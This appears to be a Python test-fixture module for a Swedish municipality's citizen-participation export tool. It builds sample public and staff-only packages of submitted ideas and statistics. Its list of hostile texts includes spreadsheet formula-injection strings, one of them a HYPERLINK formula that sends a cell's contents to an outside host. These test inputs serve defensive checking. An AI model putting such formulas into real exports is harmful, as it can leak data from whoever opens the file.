"""Packages for the tests: small, plain values with everything a reader may meet."""

from datetime import date, datetime
from zoneinfo import ZoneInfo

from participation.export.package_content import (
    InternalPackage,
    InternalVoiceRow,
    ListedIdeaRow,
    ModerationCount,
    PublicPackage,
    PublicVoiceRow,
    StatisticsRow,
    StatisticsTable,
    StepDates,
    WindowDates,
)

MADE_AT = datetime(2026, 4, 2, 9, 30, tzinfo=ZoneInfo("Europe/Stockholm"))

HOSTILE_TEXTS = (
    '=HYPERLINK("http://exempel.se?x="&A1,"klicka")',
    "=SUMMA(A1:A9)",
    "+46 31 390 06 12",
    "-cykelställ",
    "@alla",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "'redan apostrof",
    "'=apostrof och formel",
    '"',
    ";",
    ",",
    'rad ett\nrad två; "citat"',
    "sep=,",
    "0313900612",
    "12345678901234567890",
    "1-2",
    "1E5",
    "SANT",
    "#REF!",
    "#SAKNAS!",
    "{=A1}",
    "https://exempel.se/" + "a" * 2_500,
    "mailto:kim@exempel.se internal:Röster!A1 external:fil.xlsx",
    "<w:p>",
    "]]>",
    "&#0; &amp; &lt;",
    "<b>fet</b> <!-- kommentar -->",
    "_x000D_ _x0041_",
    "  blanka i båda ändar  ",
    "mer lek å bus i Åled, ÄNGEN och Öster",
    "👩‍👩‍👧‍👦 bänk",
    "إضاءة أفضل بين المركز والمحطة",
    "x" * 40_000,
    "🏡" * 20_000,
)
"""Rows V1–V10 of the catalogue and their neighbours: every format gives each back as it was typed."""

UNWRITABLE_TEXTS = (
    ("mjuk\x0bradbrytning", "mjuk\nradbrytning"),
    ("ny\x0csida", "ny\nsida"),
    ("rad\r\nrad\rrad", "rad\nrad\nrad"),
    ("nolla\x00 klocka\x07", "nolla klocka"),
    ("icke-tecken\ufffe\uffff", "icke-tecken"),
    ("halvt par\ud83d", "halvt par"),
    ("\x00=1+1", "=1+1"),
)
"""Text that XML or UTF-8 cannot hold, and what the files hold instead."""


def make_public_voice(number: int = 1, **changed: object) -> PublicVoiceRow:
    """A published idea from the web; `changed` replaces fields."""
    return PublicVoiceRow(**(_facts(number) | changed))


def make_internal_voice(number: int = 1, **changed: object) -> InternalVoiceRow:
    """A published idea from the web with what only staff may see."""
    facts = _facts(number) | {
        "received_at": datetime(2026, 3, 3, 14, 5, 59, tzinfo=ZoneInfo("Europe/Stockholm")),
        "state": "visas",
        "original_text": "Fler bänkar längs ån. Ring 070-174 06 05.",
        "age_band": "60–79",
        "sex": "kvinna",
        "relation": "bor här",
    }
    return InternalVoiceRow(**(facts | changed))


def make_public_package(*voices: PublicVoiceRow, **changed: object) -> PublicPackage:
    """A public package with these voices, or one voice."""
    return PublicPackage(**(_content() | {"voices": voices or (make_public_voice(),)} | changed))


def make_internal_package(*voices: InternalVoiceRow, **changed: object) -> InternalPackage:
    """An internal package with these voices, or one voice."""
    return InternalPackage(**(_content() | {"voices": voices or (make_internal_voice(),)} | changed))


def _facts(number: int) -> dict[str, object]:
    return {
        "id": f"i{number:05}",
        "kind": "idé",
        "channel": "webb",
        "received_on": date(2026, 3, 3),
        "arrival_step": "Steg 5: lämna synpunkter",
        "arrival_window": "1 mars till 31 mars 2026",
        "area": "Skola, sport och fritid",
        "language": "svenska",
        "language_code": "sv",
        "text": "Fler bänkar längs ån.",
        "place": "Suseån",
        "status": "Publicerad",
        "status_on": date(2026, 3, 4),
    }


def _content() -> dict[str, object]:
    return {
        "municipality": "Halmstads kommun",
        "programme": "Framtid Getinge",
        "locality": "Getinge",
        "revision": "Revidering 2026",
        "made_at": MADE_AT,
        "steps": (
            StepDates(4, "Sammanställning", date(2026, 1, 12), date(2026, 2, 27)),
            StepDates(5, "Lämna synpunkter", date(2026, 3, 1), None),
        ),
        "window": WindowDates(date(2026, 3, 1), date(2026, 3, 31)),
        "areas": ("Läge, natur och identitet", "Skola, sport och fritid"),
        "kinds": ("idé", "synpunkt", "yttrande"),
        "channels": ("webb", "papper", "surfplatta"),
        "ideas": (
            ListedIdeaRow(
                id="l1",
                title="Sittplatser längs Suseån",
                area="Skola, sport och fritid",
                motive="Många äldre går där.",
                status="På idélistan",
                placed_on=date(2026, 3, 20),
                voices_by_channel={"webb": 12, "papper": 9, "surfplatta": 16},
                is_example=True,
            ),
        ),
        "moderation": (ModerationCount("Visade", 38), ModerationCount("Uppgift om en enskild person", 2)),
        "statistics": (
            StatisticsTable(
                title="Kön och ålder",
                row_heading="Ålder",
                columns=("Kvinna", "Man"),
                rows=(StatisticsRow("10–12", ("skyddat", "skyddat")), StatisticsRow("20–39", (14, 11))),
                note="Antal under 5 visas inte.",
            ),
        ),
    }
